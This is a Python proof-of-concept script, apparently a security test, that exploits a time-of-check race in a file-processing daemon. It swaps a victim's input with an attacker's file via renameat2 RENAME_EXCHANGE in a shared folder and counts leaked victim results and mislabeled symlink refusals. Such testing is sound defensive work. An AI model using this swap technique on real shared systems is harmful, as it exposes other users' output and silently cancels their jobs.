# X05: another user in a shared folder without the sticky bit: for
# SECONDS, exchange the victim's input NAME with a file of the attacker's
# (renameat2 RENAME_EXCHANGE, atomic), and read NAME's result whenever it
# is readable, noting any that holds the victim's MARKER.  The daemon
# scanned one file and opened the other, and gave the victim's output to
# the attacker as the owner of the result.  Prints "swaps: N",
# "results: N" (versions read) and "leaks: N".
# With KIND "link", the attacker's file is a symlink to /etc/hostname: the
# daemon refused it, but recorded the victim's file as the input refused,
# so the victim's job never ran.  Prints "mislabeled: N" too: refusals of
# a symlink that record another inode than the link's.
#   python3 x05_swap.py DIR NAME MARKER SECONDS [KIND]
import ctypes
import json
import os
import sys
import time

d, name, marker, seconds = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
libc = ctypes.CDLL(None, use_errno=True)
renameat2 = libc.renameat2
AT_FDCWD, RENAME_EXCHANGE = -100, 2
mine = os.path.join(d, ".x05.mine.tmp")
job, res = os.path.join(d, name), os.path.join(d, name + ".result.json")
if len(sys.argv) > 5 and sys.argv[5] == "link":
    os.symlink("/etc/hostname", mine)
else:
    with open(mine, "w") as f:
        f.write('print("attacker")\n')
link_ino = os.lstat(mine).st_ino
n = leaks = reads = mislabeled = 0
end = time.monotonic() + seconds
while time.monotonic() < end:
    if renameat2(AT_FDCWD, job.encode(), AT_FDCWD, mine.encode(), RENAME_EXCHANGE) == 0:
        n += 1
    try:
        with open(res) as f:
            text = f.read()
        reads += 1
        if marker in text:
            leaks += 1
        d = json.loads(text)
        if "symbolic link" in (d.get("error") or "") and d["input"]["ino"] != link_ino:
            mislabeled += 1
    except (OSError, ValueError):
        pass
print(f"swaps: {n}")
print(f"results: {reads}")
print(f"leaks: {leaks}")
print(f"mislabeled: {mislabeled}")
